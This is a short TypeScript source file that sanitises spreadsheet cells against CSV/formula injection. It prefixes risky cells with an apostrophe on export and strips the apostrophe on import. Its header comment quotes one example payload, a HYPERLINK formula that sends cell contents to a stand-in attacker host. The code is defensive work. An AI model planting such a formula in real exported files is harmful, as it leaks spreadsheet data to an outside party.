/**
 * Spreadsheet cells that cannot run (OWASP "CSV injection"; issue 26, defect 6). Excel,
 * LibreOffice and Sheets take a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
 * as a formula, so `=HYPERLINK("http://evil.example/?"&A1,"x")` in a signal name would run on the
 * reader's machine. Every CSV and Excel file the product writes (server and web app) passes its
 * cells through `inertCell`; every file it reads back passes its text through `cellText`.
 */

const FORMULA_START = /^'*[=+\-@\t\r]/;
const QUOTED_FORMULA_START = /^'+[=+\-@\t\r]/;
/** A plain decimal number (e.g. `-12.5`, `+3`, `1e-3`) is harmless: it stays as it is. */
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * A text cell that a spreadsheet would run gets a leading apostrophe, which spreadsheets show
 * as text; so does a text that already starts with apostrophes before such a character, which
 * keeps `cellText` an exact inverse. Numbers, empty cells and plain numbers written as text
 * (a negative offset) are left alone.
 */
export function inertCell<T>(cell: T): T | string {
  if (typeof cell !== 'string') return cell;
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

/**
 * The text a written cell stood for: one leading apostrophe before a formula character is taken
 * off, so an exported file imports to the same names. A hand-made file's `'=x` imports as `=x`,
 * which is how a spreadsheet reads it too.
 */
export function cellText(text: string): string {
  return QUOTED_FORMULA_START.test(text) ? text.slice(1) : text;
}
